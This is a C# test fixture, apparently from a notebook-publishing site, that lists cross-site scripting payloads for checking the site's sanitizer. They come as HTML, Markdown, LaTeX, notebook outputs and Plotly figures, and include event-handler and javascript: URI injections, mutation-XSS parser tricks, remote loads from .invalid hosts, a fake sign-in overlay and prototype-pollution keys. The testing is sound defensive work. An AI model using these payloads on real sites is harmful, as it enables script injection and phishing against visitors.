using System.Text;
using System.Text.Json.Nodes;

namespace LossNotebooks.Site.Tests.Strangers;

/// <summary>What a notebook can try to do to whoever opens its page. Each attack that comes through says so by <c>struck</c>.</summary>
internal static class Attacks
{
    private const string Do = "globalThis.struck=1;alert(1)";

    private const string Picture = $"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{Do}\"><script>{Do}</script>"
        + "<image href=\"http://other.invalid/a.png\"/>"
        + "<foreignObject><iframe src=\"http://other.invalid/\"></iframe></foreignObject></svg>";

    private static readonly string Data = Convert.ToBase64String(Encoding.UTF8.GetBytes(Picture));

    private static readonly string Page = Convert.ToBase64String(Encoding.UTF8.GetBytes($"<script>top.{Do}</script>"));

    /// <summary>Pieces of HTML.</summary>
    public static readonly string[] Html =
    [
        $"<script>{Do}</script>",
        "<script src=\"http://other.invalid/a.js\"></script>",
        $"<scr<script>ipt>{Do}</scr</script>ipt>",
        $"<img src=x onerror=\"{Do}\">",
        $"<img src=x onerror={Do}>",
        $"<IMG SRC=x OnErRoR='{Do}'>",
        $"<img/src=x/onerror={Do}>",
        $"<b onmouseover=\"{Do}\" onclick=\"{Do}\" tabindex=0 autofocus onfocus=\"{Do}\">b</b>",
        $"<details open ontoggle=\"{Do}\"><summary>s</summary></details>",
        $"<video autoplay onloadstart=\"{Do}\"><source src=x onerror=\"{Do}\"></video>",
        $"<body onload=\"{Do}\">",
        $"<svg onload=\"{Do}\"><animate onbegin=\"{Do}\" attributeName=x dur=1s></svg>",
        $"<svg><a href=\"javascript:{Do}\"><text y=20>t</text></a><use href=\"data:image/svg+xml;base64,{Data}#a\"/></svg>",
        $"<svg></p><style><a id=\"</style><img src=1 onerror={Do}>\">",
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Do}&gt;\">",
        $"<math href=\"javascript:{Do}\"><maction actiontype=\"statusline#x\" xlink:href=\"javascript:{Do}\">m</maction></math>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Do}>\">n</noscript>",
        $"<textarea><p title=\"</textarea><img src=x onerror={Do}>\">t</textarea>",
        $"<template><img src=x onerror={Do}></template><xmp><img src=x onerror={Do}></xmp>",
        $"<!--><img src=x onerror={Do}>-->",
        $"<![CDATA[><img src=x onerror={Do}>]]>",
        $"<a href=\"javascript:{Do}\">j</a>",
        $"<a href=\" &#1;java&#10;script&colon;{Do}\">j</a>",
        $"<a href=\"JaVaScRiPt:{Do}\" target=_top>j</a>",
        $"<a href=\"vbscript:x\">v</a><a href=\"data:text/html;base64,{Page}\">d</a>",
        $"<a href=\"blob:x\">b</a><a href=\"view-source:x\">v</a><a href=\"http://a.invalid/\" ping=\"http://other.invalid/\">p</a>",
        $"<form action=\"javascript:{Do}\"><input name=q><button formaction=\"javascript:{Do}\">go</button></form>",
        "<form action=\"http://other.invalid/\"><input type=password autofocus><input type=submit></form>",
        $"<input type=image src=x onerror=\"{Do}\"><select><option>o</select><button onclick=\"{Do}\">x</button>",
        "<iframe src=\"http://other.invalid/\"></iframe>",
        $"<iframe srcdoc=\"&lt;script&gt;top.{Do}&lt;/script&gt;\"></iframe><iframe src=\"javascript:top.{Do}\"></iframe>",
        $"<object data=\"data:text/html;base64,{Page}\"></object><embed src=\"data:text/html;base64,{Page}\">",
        $"<object data=\"data:image/svg+xml;base64,{Data}\"></object><embed src=\"javascript:{Do}\">",
        $"<meta http-equiv=refresh content=\"0;url=javascript:{Do}\"><meta http-equiv=refresh content=\"0;url=http://other.invalid/\">",
        "<base href=\"http://other.invalid/\"><link rel=stylesheet href=\"http://other.invalid/a.css\">",
        "<link rel=dns-prefetch href=\"http://other.invalid/\"><link rel=preload as=image href=\"http://other.invalid/a.png\">",
        "<style>@import 'http://other.invalid/a.css'; body { background: url(http://other.invalid/a.png) } .top { display: none }</style>",
        "<div style=\"position:fixed;inset:0;z-index:9;background:red\">Your session has ended. Sign in at …</div>",
        "<div style=\"background:url('http://other.invalid/b.png')\">u</div>",
        "<div style=\"background-color:url(http://other.invalid/b.png)\">u</div>",
        "<div style=\"position:\\66ixed;top:0;left:0;width:100vw;height:100vh;margin:-9999px;transform:scale(99)\">w</div>",
        "<div class=\"top course skip search\" id=content popover>c</div><div id=search></div><div id=cell-c1 id=figure-a-1></div>",
        "<button popovertarget=course>menu</button><dialog open>d</dialog>",
        "<img src=\"http://other.invalid/a.png\"><img srcset=\"http://other.invalid/a.png 1x\"><img src=\"//other.invalid/a.png\">",
        "<img src=\"/\\other.invalid/a.png\"><img src=\"\\\\other.invalid/a.png\"><img lowsrc=\"http://other.invalid/a.png\" src=\"\">",
        "<picture><source srcset=\"http://other.invalid/a.png\"><img src=\"http://other.invalid/a.png\"></picture>",
        "<table background=\"http://other.invalid/a.png\"><tr><td background=\"http://other.invalid/a.png\">t</td></tr></table>",
        "<audio src=\"http://other.invalid/a.mp3\" autoplay></audio><video poster=\"http://other.invalid/a.png\"></video>",
        $"<img src=\"data:image/svg+xml;base64,{Data}\"><img src=\"data:text/html;base64,{Page}\">",
        $"<a title=\" src='02-page.ipynb' onmouseover={Do} tabindex=0 autofocus onfocus={Do} x=\" href=\"#x\">t</a>",
        $"<a title='\"><img src=x onerror={Do}>' href=\"#x\">t</a><p title=\"<script>{Do}</script>\">t</p>",
        $"</div></main></body><script>{Do}</script><div onclick=\"{Do}\">out",
        $"<plaintext><img src=x onerror={Do}>",
        $"<frameset onload=\"{Do}\"><frame src=\"javascript:{Do}\"></frameset><portal src=\"http://other.invalid/\"></portal>",
        $"<x onclick=\"{Do}\" style=\"animation-name:x\" onanimationstart=\"{Do}\" contenteditable>x</x>",
        $"<marquee onstart=\"{Do}\">m</marquee>",
    ];

    /// <summary>Pieces of Markdown.</summary>
    public static readonly string[] Markdown =
    [
        $"[a](javascript:{Do}) [b](<java&#115;cript:{Do}>) <javascript:{Do}> [c]: javascript:{Do}",
        $"![a](javascript:{Do}) ![b](http://other.invalid/a.png) ![c](//other.invalid/a.png \"t\\\" onerror={Do}\")",
        $"[d](data:text/html;base64,{Page}) [e](attachment:page) ![f](attachment:picture) [g](attachment:picture)",
        $"<div title=\"\n\n# onclick={Do} autofocus tabindex=0 onfocus={Do} `x` $y$\n\n\">t</div>",
        $"<div title=\"$y$ onclick={Do}\">t</div> <b title='`\"onfocus={Do}`'>",
        $"<script>\n\n{Do}\n\n</script>\n\n<style>\n\n* {{ position: fixed }}\n\n</style>",
        $"$\\href{{javascript:{Do}}}{{x}}$ $\\htmlData{{a=b}}{{x}}$ $\\includegraphics{{http://other.invalid/a.png}}$",
        $"$\\url{{javascript:{Do}}}$",
        $"$$\\text{{<img src=x onerror={Do}>}}$$",
        "$\\rule{9000em}{9000em}$ and $\\raisebox{-400em}{\\rule[-400em]{1000em}{1000em}}$",
        $"```<img src=x onerror={Do}>\n<script>{Do}</script>\n```\n\n```csharp\n// </code></pre><script>{Do}</script>\n```",
        $"\uFDD20\uFDD3 \uFDD2999\uFDD3 <b title=\"\uFDD20\uFDD3\">b</b> \uFDD0 $\uFDD0$",
        $"- [ ] <input type=text onfocus={Do} autofocus> task\n- [x] done",
    ];

    /// <summary>Outputs of a code cell.</summary>
    public static IEnumerable<JsonObject> Outputs =>
    [
        .. Html.Select(html => Output("text/html", html)),
        .. Html.Concat(Markdown).Select(text => Output("text/markdown", text)),
        .. Html.Select(html => Output("text/latex", html)),
        Output("application/javascript", Do),
        Output("image/svg+xml", Picture),
        Output("image/png", $"x\" onerror=\"{Do}"),
        Output("application/json", new JsonObject { ["</pre><script>"] = $"{Do}</script>" }),
        Output($"text/x\"><script>{Do}</script>", "x"),
        new()
        {
            ["output_type"] = "error", ["ename"] = $"<script>{Do}</script>", ["evalue"] = $"<img src=x onerror={Do}>",
            ["traceback"] = new JsonArray($"\e]8;;javascript:{Do}\alink\e]8;;\a\e[31;\"onclick={Do}\"m<script>{Do}</script>"),
        },
        new()
        {
            ["output_type"] = "stream", ["name"] = $"\"><script>{Do}</script>",
            ["text"] = $"<script>{Do}</script>\e[1m<b onclick={Do}>",
        },
        .. Figures.Select(figure => Output("application/vnd.plotly.v1+json", figure)),
        .. Figures.Select(figure => Output("text/html", $"<figure>\n<div role=\"img\" aria-label=\"a\" data-loss-figure='"
            + $"{figure.ToJsonString()}'><img alt=\"a\" src=\"javascript:{Do}\"></div>\n<style>\n<script>{Do}</script></figure>")),
    ];

    /// <summary>The pictures that a cell of Markdown carries.</summary>
    public static JsonObject Attachments => new()
    {
        ["page"] = new JsonObject { ["text/html"] = Page },
        ["picture"] = new JsonObject { ["image/svg+xml"] = Data },
    };

    private static JsonObject Output(string type, JsonNode data) => new()
    {
        ["output_type"] = "display_data",
        ["metadata"] = new JsonObject(),
        ["data"] = new JsonObject { [type] = data, ["text/plain"] = $"\"><img src=x onerror={Do}>" },
    };

    /// <summary>A figure whose every text is an attack, and one that can't be drawn as a picture, whose addresses and steps are.</summary>
    private static JsonObject[] Figures =>
    [
        Figure($$"""
            {
              "data": [{
                "type": "scatter", "x": [1, 2], "y": [1, 2], "mode": "markers+text", "name": "<img src=x onerror={{Do}}>",
                "text": ["<a href='javascript:{{Do}}'>j</a>", "<a href='http://a.invalid/' target='_top'>h</a><script>{{Do}}</script>"],
                "hovertemplate": "<img src=x onerror={{Do}}>", "__proto__": { "polluted": 1 }
              }],
              "layout": {
                "title": { "text": "<b onclick='{{Do}}'>t</b><svg onload={{Do}}>" },
                "xaxis": { "title": { "text": "</text><script>{{Do}}</script>" } }
              }
            }
            """),
        Figure($$"""
            {
              "data": [{ "type": "scatter", "x": [1, 2], "y": [1, 2] }, { "type": "image", "source": "http://other.invalid/a.png" }],
              "layout": {
                "images": [{ "source": "http://other.invalid/a.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1 },
                  { "source": "javascript:{{Do}}", "x": 0, "y": 1, "sizex": 1, "sizey": 1 }],
                "annotations": [{ "text": "<a href=\"javascript:{{Do}}\" style=\"position:fixed;inset:0\">a</a>", "x": 1, "y": 1 }],
                "sliders": [{ "steps": [{ "label": "<img src=x onerror={{Do}}>", "method": "setPlotConfig", "args": [{ "plotlyServerURL": "x" }] },
                  { "label": "b", "method": "constructor", "args": ["{{Do}}"] }], "currentvalue": { "prefix": "<script>{{Do}}</script>" } }],
                "updatemenus": [{ "buttons": [{ "label": "b", "method": "downloadImage", "args": [{}] }] }]
              },
              "config": { "showLink": true, "linkText": "x", "plotlyServerURL": "http://other.invalid", "showSendToCloud": true }
            }
            """),
    ];

    private static JsonObject Figure(string json) => (JsonObject)JsonNode.Parse(json)!;
}
